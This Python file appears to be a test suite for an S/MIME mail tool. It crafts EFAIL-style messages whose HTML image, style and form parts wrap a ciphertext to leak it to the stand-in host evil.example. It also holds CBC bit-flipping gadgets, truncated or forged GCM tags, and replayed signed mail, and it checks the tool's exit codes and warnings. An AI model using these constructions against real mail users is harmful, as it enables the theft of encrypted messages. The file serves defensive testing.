"""Somebody else's ciphertext: in wrappers that send it away, quoted in a mail to be answered, altered."""
from kit import (AUTH_ENVELOPED, DATA, ENTITY, ENVELOPED, EVIL, HEAD, HIDDEN, SECRET, attack, b64, children, clear,
                 encrypted, enveloped_fields, good, mail, multi, oid, opaque, rebuild, seq, tlv, value,
                 with_ciphertext, with_parameters)

IMG = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
END = b'Content-Type: text/html\r\n\r\n">\r\n'
OPEN_QUOTE = b"Content-Type: text/plain\r\n\r\nPlease answer to this:\r\n"


def ciphertexts():
    signed = opaque(good(HIDDEN))
    return (("CBC", opaque(encrypted(), b"enveloped-data")),
            ("GCM", opaque(encrypted(cipher="aes-256-gcm"), b"authEnveloped-data")),
            ("signed in CBC", opaque(encrypted(signed), b"enveloped-data")),
            ("signed in GCM", opaque(encrypted(signed, "aes-256-gcm"), b"authEnveloped-data")))


def wrappers():
    """Direct exfiltration, and covert content: nothing below an unprotected root is decrypted."""
    for name, c in ciphertexts():
        def wrap(how, entity, codes=("inner-encrypted", "part-encrypted"), exits=(4, 6), label=name):
            attack("efail", f"{label}: {how}", mail(entity), codes, exits, secret=True)
        wrap("in an image's address", multi(IMG, c, END))
        wrap("in an image's address, related", multi(IMG, c, END, kind=b"multipart/related"))
        wrap("in an image's address, alternative", multi(IMG, c, END, kind=b"multipart/alternative"))
        wrap("in a style", multi(b"Content-Type: text/html\r\n\r\n<style>@import 'http://evil.example/", c, END))
        wrap("in a form", multi(b"Content-Type: text/html\r\n\r\n<form action=http://evil.example><textarea>", c, END))
        wrap("deep inside", multi(IMG, multi(c, boundary=b"i1"), END))
        wrap("quoted, to be answered", multi(OPEN_QUOTE, c))
        wrap("quoted, hidden by a style", multi(b"Content-Type: text/html\r\n\r\nLunch?<div style='display:none'>", c))
        wrap("far below", multi(OPEN_QUOTE + b"\r\n" * 200, c))
        wrap("forwarded", multi(OPEN_QUOTE, b"Content-Type: message/rfc822\r\n\r\n" + mail(c)))
        wrap("as an attachment", multi(OPEN_QUOTE, b"Content-Disposition: attachment; filename=smime.p7m\r\n" + c))
        wrap("below another's signature", clear(multi(OPEN_QUOTE, c), "mallory"), (), (6,))
        wrap("below another's opaque signature", opaque(good(multi(OPEN_QUOTE, c), "mallory")), (), (6,))
        wrap("beside a signed part", multi(clear(), c), (), (6,))
        wrap("as the only part", multi(c))


def gadgets():
    """CBC: plaintext of one's own where it is known, garbage beside it."""
    der = encrypted()
    plain = HIDDEN

    def xor(a, b):
        return bytes(x ^ y for x, y in zip(a, b))

    def attack_cbc(name, variant, exits=(5,)):
        attack("efail", f"CBC: {name}", mail(opaque(variant, b"enveloped-data")),
               ["unauthenticated"] if exits == (5,) else [], exits, secret=True)
    wanted = [b"Content-Type: te", b"xt/html\r\n\r\n<img ", b'src="http://evil', b".example/        "]

    def gadget(data, block, text):
        # block i decrypts to D(c[i]) ^ c[i-1]: change c[i-1] to choose it
        at = 16 * (block - 1)
        known = plain[16 * block:16 * block + 16]
        return data[:at] + xor(xor(data[at:at + 16], known), text) + data[at + 16:]

    attack_cbc("as it is", der)
    attack_cbc("a gadget at the start", with_ciphertext(der, lambda d: gadget(d, 1, wanted[1])))
    attack_cbc("a gadget in the middle", with_ciphertext(der, lambda d: gadget(d, 3, wanted[2])))
    attack_cbc("gadgets in turn", with_ciphertext(der, lambda d: gadget(gadget(gadget(d, 1, wanted[0]), 3, wanted[1]), 5, wanted[2])))
    attack_cbc("blocks repeated", with_ciphertext(der, lambda d: d[:32] * 4 + d))
    attack_cbc("blocks exchanged", with_ciphertext(der, lambda d: d[32:64] + d[:32] + d[64:]))
    attack_cbc("blocks removed", with_ciphertext(der, lambda d: d[:16] + d[48:]))
    attack_cbc("the end removed", with_ciphertext(der, lambda d: d[:64]))
    attack_cbc("half a block removed", with_ciphertext(der, lambda d: d[:-8]), (5, 65))
    attack_cbc("no block", with_ciphertext(der, lambda d: b""), (5, 65))
    attack_cbc("the padding altered", with_ciphertext(der, lambda d: d[:-17] + bytes([d[-17] ^ 1]) + d[-16:]))

    def iv(change):
        return lambda p: seq(children(value(p))[0], tlv(4, change(value(children(value(p))[1]))))
    attack_cbc("another type by the IV", with_parameters(der, iv(lambda v: xor(xor(v, plain[:16]), wanted[0]))))
    attack_cbc("a short IV", with_parameters(der, iv(lambda v: v[:8])), (1, 2, 5, 65))
    attack_cbc("a signature inside, its text altered",
               with_ciphertext(encrypted(opaque(good(HIDDEN))), lambda d: d[:160] + bytes([d[160] ^ 1]) + d[161:]))
    attack_cbc("a part inside that is signed, the whole not",
               encrypted(multi(clear(), HIDDEN)))
    attack_cbc("the signature inside is of nobody", encrypted(opaque(good(HIDDEN))[:-40]))
    attack_cbc("nothing signed inside compressed", encrypted(b"Content-Type: application/pkcs7-mime; smime-type="
               b"compressed-data\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(b"0\x80" + SECRET)))


def modes():
    """Authenticated encryption, taken for something else."""
    der = encrypted(cipher="aes-256-gcm")
    kind, fields = enveloped_fields(der)
    assert kind == oid(AUTH_ENVELOPED)

    def forged(name, variant, exits=(1,), smime=b"authEnveloped-data"):
        attack("efail", f"GCM: {name}", mail(opaque(variant, smime)), (), exits, secret=True)

    def mac(change):
        return rebuild(kind, [*fields[:-1], tlv(4, change(value(fields[-1])))])
    tag = value(fields[-1])
    forged("tag of 4 octets", mac(lambda t: t[:4]), (1, 65))
    forged("tag of 12 of 16 octets", mac(lambda t: t[:12]), (1, 65))
    forged("tag of 1 octet", mac(lambda t: t[:1]), (1, 65))
    forged("empty tag", mac(lambda t: b""), (1, 65))
    forged("long tag", mac(lambda t: t + b"\0"), (1, 65))
    forged("tag altered", mac(lambda t: bytes([t[0] ^ 1]) + t[1:]))
    forged("no tag", rebuild(kind, fields[:-1]), (1, 65))

    def short(n):
        def change(parameters):
            parts = children(value(parameters))
            nonce = children(value(parts[1]))[0]
            return seq(parts[0], seq(nonce, tlv(2, bytes([n]))))
        variant = with_parameters(der, change)
        k, f = enveloped_fields(variant)
        return rebuild(k, [*f[:-1], tlv(4, tag[:n])])
    for n in (0, 1, 4, 8, 11):
        forged(f"tag said to be of {n} octets", short(n), (1, 65))
    forged("ciphertext altered", with_ciphertext(der, lambda d: bytes([d[0] ^ 1]) + d[1:]))
    forged("ciphertext cut", with_ciphertext(der, lambda d: d[:32]))
    forged("ciphertext empty", with_ciphertext(der, lambda d: b""))
    forged("attributes added", rebuild(kind, [*fields[:-1], tlv(0xa1, seq(oid("1.2.3"), tlv(0x31, tlv(5)))), fields[-1]]), (1, 65))

    def other(algorithm, *parameters):
        return lambda p: seq(oid(algorithm), *parameters)
    nonce = value(children(value(children(value(children(value(fields[2]))[1]))[1]))[0])
    # the counter of GCM as the IV of CBC, and the reverse: the attacker has no tag to forge then
    cbc = with_parameters(der, other("2.16.840.1.101.3.4.1.42", tlv(4, nonce + b"\0\0\0\2")))
    _, cbc_fields = enveloped_fields(cbc)
    forged("as CBC in EnvelopedData", rebuild(oid(ENVELOPED), cbc_fields[:-1]), (5, 65), b"enveloped-data")
    padded = with_ciphertext(cbc, lambda d: d[:len(d) // 16 * 16])
    forged("as whole blocks of CBC", rebuild(oid(ENVELOPED), enveloped_fields(padded)[1][:-1]), (5, 65), b"enveloped-data")
    forged("in EnvelopedData", rebuild(oid(ENVELOPED), fields[:-1]), (1, 5, 65), b"enveloped-data")
    forged("as CBC in AuthEnvelopedData", cbc, (1, 65))
    cbc_der = encrypted()
    _, f = enveloped_fields(cbc_der)
    forged("CBC as GCM", rebuild(oid(AUTH_ENVELOPED), [*f, tlv(4, b"\0" * 16)]), (1, 65))
    # the key of another message: an unwrap that goes wrong is no more than a wrong key
    at = der.index(b"\x04\x82\x01\x00") + 40
    forged("the wrapped key altered", der[:at] + bytes([der[at] ^ 1]) + der[at + 1:])
    forged("for another", encrypted(cipher="aes-256-gcm", names=("carol",)), (2,))
    forged("for another, and altered", with_ciphertext(encrypted(cipher="aes-256-gcm", names=("carol",)),
                                                       lambda d: b"x" + d[1:]), (2,))
    assert DATA and ENTITY and EVIL and HEAD and clear


def replays():
    """Good signatures that went elsewhere: valid, and told."""
    inner = (b'Content-Type: text/plain; hp="clear"\r\nFrom: alice@example.com\r\nTo: carol@example.com\r\n'
             b"Subject: You are fired\r\nDate: Mon, 1 Jan 2024 00:00:00 +0000\r\n\r\nYou are fired.\r\n")
    head = b"From: alice@example.com\r\nTo: bob@example.com\r\nSubject: You are fired\r\nDate: Mon, 1 Jan 2024 00:00:00 +0000\r\n"
    attack("replay", "signed for carol, sent on to bob", mail(opaque(good(inner)), head), told=["not-addressed-to-me"])
    attack("replay", "signed for carol, encrypted to bob",
           mail(opaque(encrypted(opaque(good(inner)), "aes-256-gcm"), b"authEnveloped-data"), head), told=["not-addressed-to-me"])
    attack("replay", "under another subject", mail(opaque(good(inner)), head.replace(b"You are fired", b"Lunch")),
           told=["header-changed", "not-addressed-to-me"])
    old = (b'Content-Type: text/plain; hp="clear"\r\nFrom: alice@example.com\r\nTo: bob@example.com\r\n'
           b"Date: Mon, 1 Jan 2024 00:00:00 +0000\r\n\r\nPlease pay.\r\n")
    attack("replay", "under another date", mail(opaque(good(old)), b"From: alice@example.com\r\nTo: bob@example.com\r\n"
           b"Date: Tue, 24 Nov 2026 00:00:00 +0000\r\n"), told=["header-changed"])
    attack("replay", "answers to another", mail(clear(), HEAD + b"Reply-To: mallory@evil.example\r\n"), told=["reply-to-differs"])


def all():
    wrappers()
    gadgets()
    modes()
    replays()
